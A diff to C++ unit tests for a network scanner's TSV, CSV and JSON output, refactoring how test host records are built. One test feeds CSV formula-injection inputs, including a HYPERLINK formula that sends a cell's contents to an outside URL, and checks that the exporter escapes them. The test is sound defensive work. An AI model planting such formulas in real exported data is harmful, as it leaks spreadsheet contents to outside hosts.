@@ -1,4 +1,5 @@
 #include <algorithm>
+#include <array>
 #include <atomic>
 #include <cerrno>
 #include <condition_variable>
@@ -148,15 +149,27 @@ TEST(HeadlessScanArgs, BadInputIsAnErrorWithAReason)
     ASSERT_EQ(options.ranges.size(), 1u);
 }
 
-TEST(HeadlessScanLines, TabCsvAndJsonForms)
+// A record of the nine column texts, IP to NetCard Vendor.
+HostRecord Host(const std::array<std::string, 9>& texts)
 {
     HostRecord record;
-    record.ip = "10.0.0.7";
-    record.mac = "00:1B:21:0A:0B:0C";
-    record.hostName = "PC07";
-    record.inventory.shares = "C$;print,er;";
-    record.inventory.systemVersion = "Say \"hi\"";
-    record.inventory.vendor = "Intel Corporate\r";
+    record.ip = texts[0];
+    record.mac = texts[1];
+    record.hostName = texts[2];
+    HostInventory& inventory = record.inventory;
+    inventory.cpu = texts[3];
+    inventory.memoryMb = texts[4];
+    inventory.shares = texts[5];
+    inventory.systemVersion = texts[6];
+    inventory.adapterSpeed = texts[7];
+    inventory.vendor = texts[8];
+    return record;
+}
+
+TEST(HeadlessScanLines, TabCsvAndJsonForms)
+{
+    HostRecord record =
+        Host({"10.0.0.7", "00:1B:21:0A:0B:0C", "PC07", "", "", "C$;print,er;", "Say \"hi\"", "", "Intel Corporate\r"});
     EXPECT_EQ(HeadlessHeaderLine(OutputFormat::Tsv),
               "IP\tMAC\tHostName\tCPU\tRAM Size\tShare File\tSystemVer\tNetCard Type\tNetCard Vendor\n");
     EXPECT_EQ(HeadlessHeaderLine(OutputFormat::Json), "");
@@ -192,15 +205,8 @@ TEST(HeadlessScanLines, TabCsvAndJsonForms)
 // "-" of a host without a name stays as it is.
 TEST(HeadlessScanLines, CsvFieldsNeverStartAFormula)
 {
-    HostRecord record;
-    record.ip = "10.0.0.7";
-    record.mac = "00:1B:21:0A:0B:0C";
-    record.hostName = "=1+2*3";
-    record.inventory.cpu = "@SUM(1+1)";
-    record.inventory.memoryMb = "-";
-    record.inventory.shares = R"(=HYPERLINK("http://x/?"&A2,"Details"))";
-    record.inventory.systemVersion = "+x";
-    record.inventory.adapterSpeed = "-1";
+    const HostRecord record = Host({"10.0.0.7", "00:1B:21:0A:0B:0C", "=1+2*3", "@SUM(1+1)", "-",
+                                    R"(=HYPERLINK("http://x/?"&A2,"Details"))", "+x", "-1", ""});
     EXPECT_EQ(HeadlessHostLine(record, OutputFormat::Csv),
               "10.0.0.7,00:1B:21:0A:0B:0C,'=1+2*3,'@SUM(1+1),-,"
               "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Details\"\")\",'+x,'-1,\n");
